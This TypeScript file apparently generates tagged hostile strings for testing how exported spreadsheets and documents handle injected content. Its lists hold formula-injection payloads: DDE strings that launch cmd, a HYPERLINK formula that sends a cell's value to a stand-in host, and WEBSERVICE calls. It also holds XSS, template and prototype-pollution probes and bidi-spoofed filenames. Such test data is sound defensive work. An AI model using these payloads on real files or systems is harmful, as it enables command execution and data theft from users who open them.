/** Texts that want to be more than text in the program that opens the file: each has a tag by which it is found again. */
import { Dice } from '@shared/domain/demo/random';

/** What spreadsheets take for the beginning of a formula, also behind what a reader does not see; and what they do not. */
const STARTS = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '"=', "'=", '|', '%', ';', ''],
  ...['\u200b=', '\ufeff=', '\u202e=', '\u2066=', '\u00ad@', '＝', '＋', '－', '＠', '\u3000＝'],
];

const PRINTABLE = [
  ...["cmd|'/C calc'!A0", 'HYPERLINK("http://x.test/?"&A1,"点")', '1+1', 'SUM(1:9)*cmd', 'DDE("cmd";"/C calc";"x")'],
  ...[
    'WEBSERVICE("http://x.test")',
    '_x003D_1+1',
    '<f>1+1</f>',
    '</t></is></c><c><f>1</f><v>1</v></c>',
    ']]>&#x3D;1+1',
  ],
  ...['&equals;1', `\${7*7}`, '{{7*7}}', '<script>alert(1)</script>', '__proto__', 'javascript:alert(1)', '\\u003d1'],
  ...[
    'HYPERLINK "http://x.test"',
    '{ DDEAUTO c:\\\\cmd.exe }',
    '(text) Tj /JS (app.alert(1))',
    '<w:instrText>DATE</w:instrText>',
  ],
];
/** Control characters, reordered text, what is no character. */
const UNPRINTABLE = [
  ...[
    '\u0000\u0007\u001b[2J',
    '\u202egnp.exe',
    '\u2066abc\u2069',
    '\ufffe\uffff',
    '\u2028=1+1',
    '\u0085=1',
    '\u200f=1',
  ],
];

export const tagOf = (text: string): string | null => /Q\d{5}Z/.exec(text)?.[0] ?? null;

export interface Hostile {
  /** Another one each time. */
  next(): string;
  /** One that can be printed on paper. */
  printable(): string;
}

export function hostile(seed: number): Hostile {
  const dice = new Dice(seed, 20);
  let made = 0;
  const tag = () => {
    made += 1;
    return `Q${String(made).padStart(5, '0')}Z`;
  };
  return {
    next: () => `${dice.pick(STARTS)}${dice.pick([...PRINTABLE, ...UNPRINTABLE])}${tag()}`,
    printable: () => `${dice.pick(['=', '+', '-', '@'])}${dice.pick(PRINTABLE)}${tag()}`,
  };
}
